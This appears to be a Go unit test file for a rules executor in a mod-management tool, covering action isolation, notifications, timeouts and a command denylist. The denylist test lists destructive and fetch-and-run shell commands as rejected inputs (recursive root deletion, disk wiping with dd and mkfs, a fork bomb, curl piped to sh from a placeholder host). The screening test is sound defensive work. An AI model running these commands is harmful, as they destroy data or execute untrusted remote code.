package executor

import (
	"context"
	"errors"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/kihw/modhub-central-management-sub000/internal/bus"
	"github.com/kihw/modhub-central-management-sub000/internal/config"
	"github.com/kihw/modhub-central-management-sub000/internal/rules"
	"github.com/kihw/modhub-central-management-sub000/internal/util"
)

type fakeMods struct {
	activated   []string
	deactivated []string
	failFor     string
}

func (m *fakeMods) Activate(id string, _ map[string]any) error {
	if id == m.failFor {
		return errors.New("conflict unresolved")
	}
	m.activated = append(m.activated, id)
	return nil
}

func (m *fakeMods) Deactivate(id string) error {
	m.deactivated = append(m.deactivated, id)
	return nil
}

func newExecutor(t *testing.T, mods rules.ModController) (*Executor, *bus.Bus, *SettingsStore) {
	t.Helper()
	logger := util.NewLogger(util.LevelError)
	events := bus.New(logger)
	runner, err := NewCommandRunner(time.Second, nil)
	if err != nil {
		t.Fatalf("NewCommandRunner: %v", err)
	}
	settings := NewSettingsStore()
	return New(logger, mods, events, runner, settings), events, settings
}

func compileActions(t *testing.T, cfgs ...config.ActionConfig) []rules.Action {
	t.Helper()
	reg := rules.NewRegistry()
	actions := make([]rules.Action, 0, len(cfgs))
	for _, cfg := range cfgs {
		action, err := rules.CompileAction(cfg, reg)
		if err != nil {
			t.Fatalf("CompileAction(%s): %v", cfg.Type, err)
		}
		actions = append(actions, action)
	}
	return actions
}

func TestActionFailureIsolated(t *testing.T) {
	mods := &fakeMods{failFor: "gaming"}
	exec, _, settings := newExecutor(t, mods)

	actions := compileActions(t,
		config.ActionConfig{Type: "mod_activate", Params: map[string]any{"mod": "gaming"}},
		config.ActionConfig{Type: "settings_change", Params: map[string]any{"key": "brightness", "value": 40}},
	)

	results := exec.Run(context.Background(), "r1", actions)
	if len(results) != 2 {
		t.Fatalf("results = %d, want 2", len(results))
	}
	if results[0].OK() {
		t.Fatalf("first action should report failure")
	}
	if !results[1].OK() {
		t.Fatalf("second action should still run, got %q", results[1].Error)
	}
	if v, ok := settings.Get("brightness"); !ok || v.(int) != 40 {
		t.Fatalf("sibling side effect missing, got %v", v)
	}
}

func TestNotifyActionPublishes(t *testing.T) {
	exec, events, _ := newExecutor(t, &fakeMods{})
	actions := compileActions(t,
		config.ActionConfig{Type: "notify", Params: map[string]any{"message": "night mode", "severity": 4}},
	)
	exec.Run(context.Background(), "r2", actions)

	history := events.History(0)
	if len(history) != 1 {
		t.Fatalf("events = %d, want 1", len(history))
	}
	ev := history[0]
	if ev.Type != "notify" || ev.Severity != 4 || ev.Source != "rule:r2" {
		t.Fatalf("unexpected event %+v", ev)
	}
}

func TestLastExecutionTracked(t *testing.T) {
	exec, _, _ := newExecutor(t, &fakeMods{})
	actions := compileActions(t,
		config.ActionConfig{Type: "settings_change", Params: map[string]any{"key": "k", "value": 1}},
	)
	before := time.Now()
	exec.Run(context.Background(), "r3", actions)

	last := exec.LastExecutions()
	ts, ok := last["settings_change"]
	if !ok || ts.Before(before) {
		t.Fatalf("last execution not tracked: %v", last)
	}
}

func TestCommandDenylist(t *testing.T) {
	runner, err := NewCommandRunner(time.Second, []string{`\bcurl\b.*\|\s*sh`})
	if err != nil {
		t.Fatalf("NewCommandRunner: %v", err)
	}
	rejected := []string{
		"rm -rf /",
		"rm -fr /home",
		"mkfs.ext4 /dev/sda1",
		"dd if=/dev/zero of=/dev/sda",
		"shutdown -h now",
		"reboot",
		":(){ :|:& };:",
		"curl http://x.test/install | sh",
	}
	for _, cmd := range rejected {
		if err := runner.Screen(cmd); err == nil {
			t.Fatalf("command %q should be rejected", cmd)
		}
	}
	allowed := []string{"echo hello", "notify-send done", "systemctl --user status foo"}
	for _, cmd := range allowed {
		if err := runner.Screen(cmd); err != nil {
			t.Fatalf("command %q should pass screening: %v", cmd, err)
		}
	}
}

func TestCommandCapturesOutput(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("requires sh")
	}
	runner, err := NewCommandRunner(2*time.Second, nil)
	if err != nil {
		t.Fatalf("NewCommandRunner: %v", err)
	}
	out, err := runner.Run(context.Background(), "echo captured")
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if !strings.Contains(out, "captured") {
		t.Fatalf("output = %q", out)
	}
}

func TestCommandTimeout(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("requires sh")
	}
	runner, err := NewCommandRunner(50*time.Millisecond, nil)
	if err != nil {
		t.Fatalf("NewCommandRunner: %v", err)
	}
	if _, err := runner.Run(context.Background(), "sleep 5"); err == nil {
		t.Fatalf("expected timeout error")
	}
}

func TestRejectedDenylistPattern(t *testing.T) {
	if _, err := NewCommandRunner(time.Second, []string{"("}); err == nil {
		t.Fatalf("expected compile error for bad pattern")
	}
}
